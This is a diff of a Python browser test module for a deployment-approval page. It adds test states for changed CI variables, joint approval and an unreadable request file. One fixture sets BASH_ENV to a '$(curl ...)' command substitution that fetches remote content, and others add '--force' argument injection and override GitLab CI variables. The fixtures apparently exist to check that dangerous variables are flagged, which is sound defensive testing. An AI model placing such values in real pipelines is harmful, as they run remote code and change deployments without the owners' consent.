@@ -3,9 +3,11 @@
 from __future__ import annotations
 
 from dataclasses import dataclass, field
+from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
 from tests.support.browser import log_in
+from tests.support.jobs import variable
 from tests.support.site import APPROVER, USERS
 
 if TYPE_CHECKING:
@@ -74,6 +76,33 @@ def _request(start: Shown, seen: Page) -> None:
     log_in(seen, start.page, APPROVER, f"/requests/{request.key}")
 
 
+def _variables(start: Shown, seen: Page) -> None:
+    """Every kind of variable: new, changed and gone, folded, hidden, dangerous, and in the place of one of GitLab's."""
+    before = [
+        variable("TARGET", "staging"),
+        variable("REGION", "eu-west-1", public=False),
+        variable("NOTIFY", "#ops"),
+        variable("RELEASE_NOTES", "first"),
+        variable("DEPLOY_KEY", "made-up-secret-1", public=False, masked=True),
+    ]
+    now = [
+        variable("TARGET", "production --force"),
+        variable("REGION", "us-east-1", public=False),
+        variable("BASH_ENV", "$(curl -s https://example.com/x)"),
+        variable("GIT_CONFIG_COUNT", "1"),
+        variable("CI_COMMIT_REF_NAME", "something-else"),
+        variable("CI_COMMIT_BRANCH", "main"),
+        variable("RELEASE_NOTES", "\n".join(f"- change number {n} of this release" for n in range(12))),
+        variable("DEPLOY_KEY", "made-up-secret-1", public=False, masked=True),
+        variable("KUBE_FILE", "apiVersion: v1", file=True),
+        variable("TARGET", "production --force --now"),
+    ]
+    start.stage.decided(_deployment(start, variables=before), "approved", "go")
+    image = {"name": "registry.example.com/deploy:3"}
+    request = _deployment(start, variables=now, image=image, extra={"sandbox": {"level": 2}})
+    log_in(seen, start.page, APPROVER, f"/requests/{request.key}")
+
+
 def _look_only(start: Shown, seen: Page) -> None:
     rule = start.stage.rule
     assert APPROVER in rule["approvals"][0]["people"]
@@ -97,14 +126,27 @@ def _decided(word: str, comment: str) -> Callable[[Shown, Page], None]:
     return go
 
 
-def _together(start: Shown, seen: Page) -> None:
+def _unfolded(start: Shown, seen: Page) -> None:
     _several(start)
     log_in(seen, start.page, APPROVER)
     for box in seen.get_by_role("checkbox").all():
         box.check()
     seen.get_by_label("Comment, for each of them").fill("the release of today")
     seen.get_by_role("button", name="Approve").click()
+    seen.get_by_role("heading", name="Approve together").wait_for()
+
+
+def _together(start: Shown, seen: Page) -> None:
+    _unfolded(start, seen)
+    seen.get_by_role("button", name="Approve").click()
     seen.get_by_role("heading", name="What came of it").wait_for()
+
+
+def _unreadable(start: Shown, seen: Page) -> None:
+    broken = _deployment(start)
+    Path(broken.directory, "request.json").write_text("{", encoding="utf-8")
+    _several(start)
+    log_in(seen, start.page, APPROVER)
 
 
 def _history(start: Shown, seen: Page) -> None:
@@ -171,12 +213,15 @@ STATES = [
     State("nothing-waits", _nothing_waits),
     State("no-match", _no_match),
     State("request", _request),
+    State("variables", _variables),
     State("look-only", _look_only),
     State("comment-missing", _no_comment, {"rule": REASONS}),
     State("approved", _decided("approved", "go ahead")),
     State("rejected", _decided("rejected", "not on a **Friday**")),
     State("expired", _decided("expired", "")),
+    State("approve-together", _unfolded),
     State("together", _together),
+    State("unreadable", _unreadable),
     State("history", _history),
     State("no-history", _no_history),
     State("login", _login),
